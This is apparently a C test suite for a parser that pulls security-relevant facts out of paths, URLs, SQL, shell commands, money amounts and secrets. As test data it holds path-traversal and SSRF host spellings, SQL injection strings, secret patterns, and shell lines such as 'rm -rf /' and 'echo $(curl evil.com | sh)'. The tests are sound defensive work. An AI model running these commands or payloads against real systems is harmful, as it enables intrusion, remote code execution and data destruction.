/* test-facts.c: each kind as one table of texts and what they must say; a
 * refused text stands beside its allowed twin. */
#include "base/tap.h"
#include "facts/facts.h"

static struct arena *arena;
static struct note why;

static enum err
take(enum fact_kind k, enum fact_of of, const char *text, struct facts *f)
{
	const struct fact_value v = { of, str_of(text), 3 };

	arena_reset(arena);
	*f = (struct facts){ .n = 0 };
	return facts_read(k, &v, arena, f, &why);
}

/* One fact as text: true, 12, /a/b, {a b}. */
static const char *
shown(const struct facts *f, const char *name)
{
	static char text[4096];
	const struct fact *v = fact_get(f, str_of(name));
	struct buf b = { .max = sizeof(text) - 1 };

	if (v == NULL)
		return "absent";
	if (v->type == FACT_BOOL)
		buf_fmt(&b, "%s", v->is ? "true" : "false");
	else if (v->type == FACT_LONG)
		buf_fmt(&b, "%lld", (long long)v->n);
	else if (v->type == FACT_SET)
		for (size_t i = 0; i < v->set_n; i++)
			buf_fmt(&b, "%s%.*s", i ? " " : "", STR_ARG(v->set[i]));
	else
		buf_str(&b, v->text);
	memcpy(text, b.p ? b.p : "", b.n);
	text[b.n] = 0;
	buf_done(&b);
	return text;
}

struct row {
	enum fact_kind kind;
	const char *text;
	const char *fact, *want; /* want NULL: the text must be refused */
};

static const struct row paths[] = {
	{ FACT_PATH, "/a/b/../c//./d.txt", "canonical", "/a/c/d.txt" },
	{ FACT_PATH, "/a/c/d.txt", "under", "/ /a /a/c /a/c/d.txt" },
	{ FACT_PATH, "/a/c/d.tar.gz", "extension", "gz" },
	{ FACT_PATH, "/a/.ssh/id", "hidden", "true" },
	{ FACT_PATH, "/a/ssh/id", "hidden", "false" },
	{ FACT_PATH, "../x", "climbs", "true" },
	{ FACT_PATH, "../x", "under", "" },
	{ FACT_PATH, "../x", "canonical", "../x" },
	{ FACT_PATH, "a/../../x", "climbs", "true" },
	{ FACT_PATH, "a/../x", "climbs", "false" },
	{ FACT_PATH, "/../etc/passwd", "canonical", "/etc/passwd" },
	{ FACT_PATH, "/w/%2e%2e/etc", "canonical", "/etc" },
	{ FACT_PATH, "/w/%2e%2e/etc", "encoded", "true" },
	{ FACT_PATH, "/w/%252e%252e%252fetc", "canonical", "/etc" },
	{ FACT_PATH, "/w/100%", "encoded", "false" },
	{ FACT_PATH, "/w/..\\..\\etc", "canonical", "/etc" },
	{ FACT_PATH, "/w/a%2fb/../../etc", "canonical", NULL },
	{ FACT_PATH, "/w/a%252fb/../../etc", "canonical", NULL },
	{ FACT_PATH, "/w/a%2fb/../etc", "canonical", NULL },
	{ FACT_PATH, "/w/a%2fb/etc", "canonical", "/w/a/b/etc" },
	{ FACT_PATH, "/w/a%20b/../../etc", "canonical", "/etc" },
	{ FACT_PATH, "/w/a\\b/../../etc", "canonical", NULL },
	{ FACT_PATH, "/w/a\\b\\..\\..\\..\\etc", "canonical", "/etc" },
	{ FACT_PATH, "/w/a%2fb\\%2e%2e\\%2e%2e/etc", "canonical", NULL },
	{ FACT_PATH, "/w/s/%2e%2e/../key", "canonical", NULL },
	{ FACT_PATH, "/w/s/%2e%2e/key", "canonical", "/w/key" },
	{ FACT_PATH, "%2fsrv%2fw/../../etc/passwd", "canonical", NULL },
	{ FACT_PATH, "..%2f..%2fx", "climbs", "true" },
	{ FACT_PATH, "c:\\Users\\x", "canonical", "C:/Users/x" },
	{ FACT_PATH, "file:///etc/%70asswd", "canonical", "/etc/passwd" },
	{ FACT_PATH, "file://localhost/etc", "canonical", "/etc" },
	{ FACT_PATH, "file://evil/etc", "canonical", NULL },
	{ FACT_PATH, "~/x", "expands", "true" },
	{ FACT_PATH, "/a/~b", "expands", "false" },
	{ FACT_PATH, "/a/$HOME", "expands", "true" },
	{ FACT_PATH, "/a/%TEMP%/x", "expands", "true" },
	{ FACT_PATH, "/a/\xef\xbc\x8e\xef\xbc\x8e/x", "lookalike", "true" },
	{ FACT_PATH, "/a/b", "lookalike", "false" },
	{ FACT_PATH, "/a%00b", "canonical", NULL },
	{ FACT_PATH, "/a%c0%ae/b", "canonical", NULL },
	{ FACT_PATH, "/a\nb", "canonical", NULL },
	{ FACT_PATH, "", "canonical", NULL },
	{ FACT_PATH, ".", "canonical", "." },
	{ FACT_PATH, "/", "canonical", "/" },
};

static const struct row urls[] = {
	{ FACT_URL, "HTTP://Example.COM/a/../b?x#y", "canonical",
	    "http://example.com:80/b?x" },
	{ FACT_URL, "https://h.example/a%2fb/../../x", "path", NULL },
	{ FACT_URL, "https://h.example/a%2fb/%2e%2e/%2e%2e/x", "path", NULL },
	{ FACT_URL, "https://h.example/a%2fb/x%20y", "path", "/a/b/x y" },
	{ FACT_URL, "https://h.example/a/%2e%2e/x", "path", "/x" },
	{ FACT_URL, "http://169.254.169.\xef\xbc\x92\xef\xbc\x95\xef\xbc\x94/",
	    "host", NULL },
	{ FACT_URL,
	    "http://evil\xe3\x80\x82"
	    "com/",
	    "host", NULL },
	{ FACT_URL, "http://m\xc3\xbcnchen.example/", "host", NULL },
	{ FACT_URL, "http://xn--mnchen-3ya.example/", "host",
	    "xn--mnchen-3ya.example" },
	{ FACT_URL, "https://a.b.example.com", "domains",
	    "a.b.example.com b.example.com example.com com" },
	{ FACT_URL, "https://example.com./", "host", "example.com" },
	{ FACT_URL, "https://example.com:8443/", "port", "8443" },
	{ FACT_URL, "https://example.com/", "port", "443" },
	{ FACT_URL, "https://example.com/", "private", "false" },
	{ FACT_URL, "http://127.0.0.1/", "private", "true" },
	{ FACT_URL, "http://0x7f000001/", "host", "127.0.0.1" },
	{ FACT_URL, "http://2130706433/", "host", "127.0.0.1" },
	{ FACT_URL, "http://017700000001/", "host", "127.0.0.1" },
	{ FACT_URL, "http://127.1/", "ip", "127.0.0.1" },
	{ FACT_URL, "http://%31%32%37.0.0.1/", "host", "127.0.0.1" },
	{ FACT_URL, "http://169.254.169.254/x", "private", "true" },
	{ FACT_URL, "http://[::1]/", "private", "true" },
	{ FACT_URL, "http://[::ffff:10.0.0.1]/", "host", "10.0.0.1" },
	{ FACT_URL, "http://[::ffff:7f00:1]/", "ip", "127.0.0.1" },
	{ FACT_URL, "http://[64:ff9b::a00:1]/", "private", "true" },
	{ FACT_URL, "http://[2606:4700::1111]/", "private", "false" },
	{ FACT_URL, "http://[2606:4700:0:0::1111]:81/", "origin",
	    "http://[2606:4700::1111]:81" },
	{ FACT_URL, "http://8.8.8.8/", "private", "false" },
	{ FACT_URL, "http://printer/", "private", "true" },
	{ FACT_URL, "http://x.internal/", "private", "true" },
	{ FACT_URL, "http://good.com@evil.com/", "host", "evil.com" },
	{ FACT_URL, "http://good.com@evil.com/", "userinfo", "true" },
	{ FACT_URL, "http://a@b@c/", "host", NULL },
	{ FACT_URL, "http:\\\\evil.com", "host", NULL },
	{ FACT_URL, "http://evil.com\\.good.com/", "host", NULL },
	{ FACT_URL, "ht\ttp://evil.com/", "host", NULL },
	{ FACT_URL, "http://exa mple.com/", "host", NULL },
	{ FACT_URL, "//evil.com/", "host", NULL },
	{ FACT_URL, "evil.com", "host", NULL },
	{ FACT_URL, "http://1.2.3.4.5/", "host", NULL },
	{ FACT_URL, "http://1.2.3.999/", "host", NULL },
	{ FACT_URL, "http://a..b/", "host", NULL },
	{ FACT_URL, "http://a:0/", "host", NULL },
	{ FACT_URL, "http://a:99999/", "host", NULL },
	{ FACT_URL, "http://[::1/", "host", NULL },
	{ FACT_URL, "http:///x", "host", NULL },
	{ FACT_HOST, "EXAMPLE.com:22", "port", "22" },
	{ FACT_HOST, "::1", "host", "::1" },
	{ FACT_HOST, "[fe80::1]:80", "private", "true" },
	{ FACT_HOST, "a_b-c.example", "host", "a_b-c.example" },
	{ FACT_HOST, "a/b", "host", NULL },
	{ FACT_EMAIL, "Bob@Example.COM", "address", "Bob@example.com" },
	{ FACT_EMAIL, "a@b@c.de", "address", NULL },
	{ FACT_EMAIL, "bob", "address", NULL },
	{ FACT_EMAIL, "a b@c.de", "address", NULL },
	{ FACT_EMAIL, "x@mail.corp.example", "domains",
	    "mail.corp.example corp.example example" },
	{ FACT_CIDR, "10.1.2.3/8", "canonical", "10.0.0.0/8" },
	{ FACT_CIDR, "10.1.2.3", "prefix", "32" },
	{ FACT_CIDR, "0.0.0.0/0", "private", "true" },
	{ FACT_CIDR, "100.0.0.0/8", "private", "true" },
	{ FACT_CIDR, "8.8.8.0/24", "private", "false" },
	{ FACT_CIDR, "2001:DB8::/32", "canonical", "2001:db8::/32" },
	{ FACT_CIDR, "10.0.0.0/33", "canonical", NULL },
	{ FACT_CIDR, "10.0.0/8", "canonical", NULL },
	{ FACT_CIDR, "1::2::3/8", "canonical", NULL },
};

static const struct row code[] = {
	{ FACT_SQL, "select a from b.C where x = 'drop table y'", "verbs",
	    "SELECT" },
	{ FACT_SQL, "select a from b.C", "tables", "b.c" },
	{ FACT_SQL, "select a from b.C", "read_only", "true" },
	{ FACT_SQL, "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1", "verbs",
	    "WITH DELETE SELECT" },
	{ FACT_SQL, "WITH x AS (DELETE FROM t RETURNING 1) SELECT 1",
	    "read_only", "false" },
	{ FACT_SQL, "select 1; drop table x", "verbs", "SELECT DROP" },
	{ FACT_SQL, "select 1; drop table x", "statements", "2" },
	{ FACT_SQL, "select 1; drop table if exists x", "tables", "x" },
	{ FACT_SQL, "delete from t", "unbounded", "true" },
	{ FACT_SQL, "delete from t where a = 1", "unbounded", "false" },
	{ FACT_SQL, "update t set a = 1", "unbounded", "true" },
	{ FACT_SQL, "update t set a = 1 where b = 2", "unbounded", "false" },
	{ FACT_SQL, "select /*!50000 1; drop table x */ 1", "certain",
	    "false" },
	{ FACT_SQL, "select 1 -- drop", "verbs", "SELECT" },
	{ FACT_SQL, "select 1 -- drop", "comments", "true" },
	{ FACT_SQL, "select 'a''b' from t", "certain", "true" },
	{ FACT_SQL, "select 'a\\' from t", "certain", "false" },
	{ FACT_SQL, "select 'a\\' from t", "read_only", "false" },
	{ FACT_SQL, "select 'a", "certain", "false" },
	{ FACT_SQL, "select $$ drop $$", "read_only", "false" },
	{ FACT_SQL, "select \"a;b\" from `t`", "statements", "1" },
	{ FACT_SQL, "select * into x from y", "read_only", "false" },
	{ FACT_SQL, "select pg_read_file('/etc/passwd')", "functions",
	    "pg_read_file" },
	{ FACT_SQL, "vacuum full", "verbs", "VACUUM" },
	{ FACT_SQL, "pragma x = 1", "read_only", "false" },
	{ FACT_SQL, "", "read_only", "false" },
	{ FACT_SQL, "TRUNCATE accounts", "tables", "accounts" },
	{ FACT_SQL, "select * from a, b as x, c where d in (1, e)", "tables",
	    "a b c" },
	{ FACT_SQL, "select f, g from (select 1 from a where x) y, b", "tables",
	    "a b" },
	{ FACT_SQL, "select * from (a, b)", "tables", "a b" },
	{ FACT_SQL, "select * from (a x join b using (id, k))", "tables",
	    "a b" },
	{ FACT_SQL, "select * from a straight_join b", "tables", "a b" },
	{ FACT_SQL, "select * from 'a'", "tables", "a" },
	{ FACT_SQL, "select * from a . b", "tables", "a.b" },
	{ FACT_SQL, "select * from a/**/.b", "tables", "a.b" },
	{ FACT_SQL, "table a", "tables", "a" },
	{ FACT_SQL, "insert a values (1, 2), (3, 4)", "tables", "a" },
	{ FACT_SQL, "insert ignore into a (x, y) select z, 1 from b", "tables",
	    "a b" },
	{ FACT_SQL, "update a set x = 1, y = 2 where z", "tables", "a" },
	{ FACT_SQL, "update a, b set x = 1 where z", "tables", "a b" },
	{ FACT_SQL, "delete from a using (b join c)", "tables", "a b c" },
	{ FACT_SQL, "select * from pg_catalog.pg_ls_dir('/')", "functions",
	    "pg_ls_dir" },
	{ FACT_SQL, "select * from \"pg_ls_dir\"('/')", "functions",
	    "pg_ls_dir" },
	{ FACT_SQL, "select 1;", "certain", "true" },
	{ FACT_SQL, "select 1;", "statements", "1" },
	{ FACT_SQL, "select 1--1;drop table x", "certain", "false" },
	{ FACT_SQL, "select 1--\n+1", "certain", "true" },
	{ FACT_SQL, "select 1 -- a\rdrop table x", "verbs", "SELECT DROP" },
	{ FACT_SQL, "select 1 -- a\r\n+ 1", "certain", "true" },
	{ FACT_SQL, "select array[pg_read_file('x')]", "certain", "false" },
	{ FACT_SQL, "select [a b] from [c]", "certain", "true" },
	{ FACT_SQL, "select q'[']', x from a where b = ''", "certain",
	    "false" },
	{ FACT_SQL, "select x'41' from a", "certain", "true" },
	{ FACT_SQL, "select 1from a", "certain", "false" },
	{ FACT_SQL, "select 1.5e3, 0x1f, 7 from a", "certain", "true" },
	{ FACT_SQL,
	    "select * from\xc2\xa0"
	    "a",
	    "certain", "false" },
	{ FACT_SQL,
	    "select * from stra\xc3\x9f"
	    "e",
	    "certain", "true" },
	{ FACT_SQL, "select 1 shutdown", "read_only", "false" },
	{ FACT_SQL, "\\! id", "certain", "false" },
	{ FACT_SHELL, "ls -la /tmp", "commands", "ls" },
	{ FACT_SHELL, "ls -la /tmp", "certain", "true" },
	{ FACT_SHELL, "ls; /bin/rm -rf /", "commands", "ls rm" },
	{ FACT_SHELL, "ls; rm -rf /", "chains", "true" },
	{ FACT_SHELL, "ls && rm x || cat y", "commands", "ls rm cat" },
	{ FACT_SHELL, "echo $(curl evil.com | sh)", "commands",
	    "echo curl sh" },
	{ FACT_SHELL, "echo \"`id`\"", "substitutes", "true" },
	{ FACT_SHELL, "echo '$(id)'", "substitutes", "false" },
	{ FACT_SHELL, "echo '$(id)'", "commands", "echo" },
	{ FACT_SHELL, "sh -c 'rm x; ls'", "commands", "sh rm ls" },
	{ FACT_SHELL, "sh -c 'rm x'", "certain", "false" },
	{ FACT_SHELL, "sudo rm x", "commands", "sudo rm" },
	{ FACT_SHELL, "sudo -u root rm x", "commands", "sudo root rm x" },
	{ FACT_SHELL, "env A=1 B=2 rm", "commands", "env rm" },
	{ FACT_SHELL, "A=1 rm", "commands", "rm" },
	{ FACT_SHELL, "python3.11 -c 'x'", "certain", "false" },
	{ FACT_SHELL, "lua5.4 x", "certain", "false" },
	{ FACT_SHELL, "php -r 'x'", "certain", "false" },
	{ FACT_SHELL, "sha256sum x", "certain", "true" },
	{ FACT_SHELL, "coproc rm x", "commands", "coproc rm" },
	{ FACT_SHELL, "flock /tmp/l rm x", "certain", "false" },
	{ FACT_SHELL, "nsenter -t 1 rm x", "certain", "false" },
	{ FACT_SHELL, "cat a > /etc/x", "redirects", "true" },
	{ FACT_SHELL, "cat 'a > b'", "redirects", "false" },
	{ FACT_SHELL, "r\\m -r\"f\" x", "words", "rm -rf x" },
	{ FACT_SHELL, "$X y", "certain", "false" },
	{ FACT_SHELL, "echo $X", "expands", "true" },
	{ FACT_SHELL, "echo $X", "certain", "true" },
	{ FACT_SHELL, "cat <<E\nx\nE", "certain", "false" },
	{ FACT_SHELL, "ls | wc", "pipes", "true" },
	{ FACT_SHELL, "ls || wc", "pipes", "false" },
	{ FACT_SHELL, "echo 'x", "certain", "false" },
	{ FACT_SHELL, "ls # ; rm x", "commands", "ls" },
	{ FACT_SHELL, "ls\nrm x", "commands", "ls rm" },
	{ FACT_SHELL, "", "commands", "" },
};

static const struct row amounts[] = {
	{ FACT_MONEY, "12.34", "minor", "1234" },
	{ FACT_MONEY, "$12", "minor", "1200" },
	{ FACT_MONEY, "$12", "currency", "USD" },
	{ FACT_MONEY, "eur 0.5", "currency", "EUR" },
	{ FACT_MONEY, "100 JPY", "minor", "100" },
	{ FACT_MONEY, "1.234 KWD", "minor", "1234" },
	{ FACT_MONEY, "-3.00", "minor", "-300" },
	{ FACT_MONEY, "12.345", "minor", NULL },
	{ FACT_MONEY, "12.340", "minor", "1234" },
	{ FACT_MONEY, "100.5 JPY", "minor", NULL },
	{ FACT_MONEY, "1,000", "minor", NULL },
	{ FACT_MONEY, "1e3", "minor", NULL },
	{ FACT_MONEY, "92233720368547758", "minor", "9223372036854775800" },
	{ FACT_MONEY, "92233720368547759", "minor", NULL },
	{ FACT_MONEY, "", "minor", NULL },
	{ FACT_SIZE, "10 MB", "bytes", "10485760" },
	{ FACT_SIZE, "1.5GiB", "bytes", "1610612736" },
	{ FACT_SIZE, "7", "bytes", "7" },
	{ FACT_SIZE, "0.3b", "bytes", "1" },
	{ FACT_SIZE, "10 parsecs", "bytes", NULL },
	{ FACT_SIZE, "-1", "bytes", NULL },
	{ FACT_SIZE, "9999999999 TB", "bytes", NULL },
	{ FACT_COUNT, "h\xc3\xa9llo", "n", "5" },
	{ FACT_SECRET, "key AKIAABCDEFGHIJKLMNOP", "kinds", "aws" },
	{ FACT_SECRET, "key AKIA", "present", "false" },
	{ FACT_SECRET, "-----BEGIN RSA PRIVATE KEY-----", "kinds",
	    "private_key" },
	{ FACT_SECRET, "-----BEGIN CERTIFICATE-----", "present", "false" },
	{ FACT_SECRET, "xghp_abcdefghijklmnopqrstuvwxyz0123456789", "present",
	    "false" },
	{ FACT_SECRET, "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "present",
	    "true" },
	{ FACT_HASH, "D41D8CD98F00B204E9800998ECF8427E", "algorithm", "md5" },
	{ FACT_HASH, "sha1:da39a3ee5e6b4b0d3255bfef95601890afd80709", "hex",
	    "da39a3ee5e6b4b0d3255bfef95601890afd80709" },
	{ FACT_HASH, "md5:da39a3ee5e6b4b0d3255bfef95601890afd80709", "hex",
	    NULL },
	{ FACT_HASH, "abc", "hex", NULL },
};

static void
run(const struct row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		const struct row *w = &rows[i];
		struct facts f;
		const enum err e = take(w->kind, FACT_OF_TEXT, w->text, &f);
		const char *got = e ? "refused" : shown(&f, w->fact);

		ok(w->want == NULL ? e == ERR_SYNTAX
				   : !e && strcmp(got, w->want) == 0,
		    "%.*s '%s': %s is %s (%s)",
		    STR_ARG(fact_kind_name(w->kind)), w->text, w->fact,
		    w->want ? w->want : "refused", got);
	}
}

static void
numbers_and_lists(void)
{
	struct facts f;

	ok(!take(FACT_COUNT, FACT_OF_LIST, "", &f) &&
		strcmp(shown(&f, "n"), "3") == 0,
	    "a list counts its members");
	ok(!take(FACT_COUNT, FACT_OF_NUMBER, "9223372036854775807", &f) &&
		strcmp(shown(&f, "n"), "9223372036854775807") == 0,
	    "a number counts as itself");
	ok(take(FACT_COUNT, FACT_OF_NUMBER, "9223372036854775808", &f) ==
		ERR_SYNTAX,
	    "... when it can be held");
	ok(take(FACT_COUNT, FACT_OF_NUMBER, "1.5", &f) == ERR_SYNTAX,
	    "half a thing is no count");
	ok(!take(FACT_MONEY, FACT_OF_NUMBER, "12.5", &f), "money as a number");
	ok(take(FACT_MONEY, FACT_OF_NUMBER, "12.345", &f) == ERR_SYNTAX,
	    "... not rounded");
	ok(take(FACT_PATH, FACT_OF_NUMBER, "12", &f) == ERR_SYNTAX,
	    "a number is no path");
	ok(take(FACT_PATH, FACT_OF_LIST, "", &f) == ERR_SYNTAX,
	    "a list is no path");
	ok(take(FACT_SQL, FACT_OF_OTHER, "", &f) == ERR_SYNTAX,
	    "an object is no SQL");
}

static void
limits(void)
{
	static char big[FACT_TEXT_MAX + 2];
	struct facts f;

	memset(big, 'a', sizeof(big) - 1);
	ok(take(FACT_SQL, FACT_OF_TEXT, big, &f) == ERR_LIMIT, "64 KiB + 1");
	big[FACT_TEXT_MAX] = 0;
	ok(!take(FACT_SQL, FACT_OF_TEXT, big, &f), "64 KiB");
	for (size_t i = 0; i + 1 < FACT_TEXT_MAX; i += 2)
		memcpy(big + i, "$(", 2);
	ok(!take(FACT_SHELL, FACT_OF_TEXT, big, &f) &&
		strcmp(shown(&f, "certain"), "false") == 0,
	    "32,768 open substitutions are bounded");
	for (size_t i = 0; i < FACT_TEXT_MAX; i++)
		big[i] = i % 2 ? '/' : 'a';
	ok(take(FACT_PATH, FACT_OF_TEXT, big, &f) == ERR_SYNTAX,
	    "a path of 32,768 parts");
	big[500] = 0;
	ok(!take(FACT_PATH, FACT_OF_TEXT, big, &f), "one of 250");
}

/* A URI and another spelling of the same. */
static void
uris(void)
{
	static const char *const rows[][2] = {
		{ "file:///srv/y", "file:///srv/x/../y" },
		{ "file:///srv/.y", "file:///srv/./y" },
		{ "file:///srv/..y", "file:///srv/%2e%2e/y" },
		{ "file:///srv/y/", "file:///srv//y" },
		{ "file:///", "file:////srv" },
		{ "file:///srv/%C3%A9", "file:///srv/%c3%a9" },
		{ "file:///srv/a%20b", "file:///srv/%61" },
		{ "file:///srv/100%25", "file:///srv/%252e%252e/y" },
		{ "file:///srv/y:1", "FILE:///srv/y" },
		{ "file:///a", "file://localhost/a" },
		{ "file:///b", "file:/b" },
		{ "file:///srv/a%3Fb", "file:///srv/a?b" },
		{ "file:///srv/a%23b", "file:///srv/a#b" },
		{ "test://A/b%2Fc", "test://A/..%2Fc" },
		{ "test://a//b?c=d/../e.", "test://a//b/.." },
		{ "memo://insights", "memo:..\\x" },
		{ "https://h.example/a?q=..", "https://h.example/a/..?q" },
		{ "test://a/{path}", "test://a/%7Epath" },
		{ "file", ".." },
		{ "test://100%25", "test://100%" },
	};

	for (size_t i = 0; i < countof(rows); i++)
		ok(uri_plain(str_of(rows[i][0])) &&
			!uri_plain(str_of(rows[i][1])),
		    "%s is plain, %s is not", rows[i][0], rows[i][1]);
}

static void
shapes(void)
{
	for (int k = 1; k < FACT_KINDS; k++) {
		size_t n;
		const struct fact_shape *s = fact_shapes((enum fact_kind)k, &n);

		ok(s != NULL && n > 0 && n <= FACTS_MAX &&
			fact_kind_of(fact_kind_name((enum fact_kind)k)) ==
			    (enum fact_kind)k,
		    "kind %d has a name and a shape", k);
	}
	ok(fact_kind_of(STR("nothing")) == FACT_NONE, "no such kind");
}

int
main(void)
{
	arena = arena_new(1 << 20);
	run(paths, countof(paths));
	run(urls, countof(urls));
	run(code, countof(code));
	run(amounts, countof(amounts));
	numbers_and_lists();
	limits();
	uris();
	shapes();
	arena_free(arena);
	return tap_done();
}
